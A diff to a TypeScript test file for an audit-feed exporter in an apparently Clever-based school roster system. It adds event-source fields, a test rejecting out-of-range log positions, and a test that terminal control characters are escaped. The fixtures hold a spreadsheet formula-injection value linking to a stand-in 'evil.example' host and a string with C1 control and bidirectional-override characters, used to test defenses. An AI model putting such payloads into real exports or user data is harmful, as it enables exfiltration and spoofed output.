@@ -21,12 +21,16 @@ const change = (position: number, over: Partial<LoggedChange>): LoggedChange => 
   observedAt: '2025-10-02T06:00:00.000Z',
   recordedAt: '2025-10-02T06:00:01.000Z',
   cleverLastModified: null,
+  source: 'snapshot',
+  cleverEventId: null,
   data: {},
   ...over,
 });
 
 const FEED: LoggedChange[] = [
   change(10, {
+    source: 'clever-events',
+    cleverEventId: '66d1f0c2e9b1d4a001234567',
     streamId: 'user-u1',
     type: 'StudentRemoved',
     recordType: 'student',
@@ -57,15 +61,16 @@ const SYNCS: Record<string, Partial<SyncSummary>> = {
   'sync-3': { syncId: 'sync-3', requestedBy: 'schedule', approvedBy: 'dana (compliance lead)' },
 };
 
-function exporter() {
+function exporter(feed: LoggedChange[] = FEED) {
   const logged: AccessLogEntry[] = [];
   const models = {
     atOneMoment: (read: () => Promise<unknown>) => read(),
     audit: async (filter: AuditFilter, { after, limit }: { after?: number; limit: number }) =>
-      structuredClone(FEED.filter((c) => (filter.districtId === undefined || c.districtId === filter.districtId) && c.position > (after ?? 0)).slice(0, limit)),
+      structuredClone(feed.filter((c) => (filter.districtId === undefined || c.districtId === filter.districtId) && c.position > (after ?? 0)).slice(0, limit)),
   } as Partial<ReadModels> as ReadModels;
   const log: AccessLog = { record: async (entry) => void logged.push(entry), query: async () => ({ items: [], next: null }) };
-  const handler = new GetAuditFeedHandler(models, log, { now: () => new Date('2025-10-03T00:00:00.000Z') });
+  // the log ends at the feed's last change
+  const handler = new GetAuditFeedHandler(models, log, { now: () => new Date('2025-10-03T00:00:00.000Z') }, { headPosition: async () => Math.max(...feed.map((c) => c.position)) });
   const syncLookups: string[] = [];
   const sync = async ({ syncId }: GetSyncQuery) => {
     syncLookups.push(syncId);
@@ -130,6 +135,15 @@ describe('audit export: what a removal says, to each role', () => {
     expect(JSON.parse(await run('compliance', 'json', 15))).toEqual([]);
   });
 
+  it("refuses a position past the end of the log (another ledger's, a damaged file of positions): a nightly series would otherwise export nothing, forever, without a word", async () => {
+    const { run } = exporter();
+    expect(await run('compliance', 'json', 15)).toBe('[]\n');
+    await expect(run('compliance', 'json', 16)).rejects.toMatchObject({
+      code: 'INVALID_INPUT',
+      message: expect.stringContaining("16 is past the end of this ledger's log (its last position is 15)"),
+    });
+  });
+
   it('refuses a district the ledger never recorded when a position is given too, as without one: a mistyped district in a nightly export is not an empty feed', async () => {
     const { run } = exporter();
     await expect(run('compliance', 'csv', undefined, 'd-typo')).rejects.toMatchObject({ code: 'NOT_FOUND' });
@@ -154,6 +168,13 @@ describe('audit export: what a removal says, to each role', () => {
       'last_known',
       'sync_requested_by',
       'sync_approved_by',
+      'source',
+      'clever_event_id',
+    ]);
+    // where each change came from: the Clever event an events sync recorded the removal from
+    expect([student, section].map((row) => [row![header!.indexOf('source')], row![header!.indexOf('clever_event_id')]])).toEqual([
+      ['clever-events', '66d1f0c2e9b1d4a001234567'],
+      ['snapshot', ''],
     ]);
     const lastKnown = (row: string[] | undefined) => JSON.parse(row![header!.indexOf('last_known')]!);
     expect(student!.slice(6, 9)).toEqual(['StudentRemoved', 'user-u1', '{"id":"u1"}']);
@@ -206,6 +227,15 @@ describe('audit export: what a removal says, to each role', () => {
     expect(rows.find((r) => r[0] === '10')!.slice(1, 3)).toEqual(['2025-10-02T06:00:00.000Z', '2025-10-02T06:00:01.000Z']);
     const json = JSON.parse(await run('compliance', 'json')) as LoggedChange[];
     expect(json.find((c) => c.position === 13)!.cleverLastModified).toBe('=HYPERLINK("http://evil.example/?x","click")');
+  });
+
+  it('writes the JSON export with what a terminal would act on (C1 controls, bidirectional overrides, line separators) as escapes, the same values to a JSON reader', async () => {
+    const hostile = 'Lu\u009b31mcía\u007f \u202eevil\u2028Peña';
+    const { run } = exporter([change(12, { streamId: 'school-s9', type: 'SchoolShared', recordType: 'school', data: { id: 's9', name: hostile } })]);
+    const written = await run('compliance', 'json');
+    expect(written).not.toMatch(/[\u007f-\u009f\u2028\u202e]/);
+    expect(written).toContain('Lu\\u009b31mcía\\u007f \\u202eevil\\u2028Peña');
+    expect((JSON.parse(written) as LoggedChange[])[0]!.data['name']).toBe(hostile);
   });
 
   it('leaves out what support may not see (demographics, birth date) and says so; engineers get no personal field, the class name still', async () => {
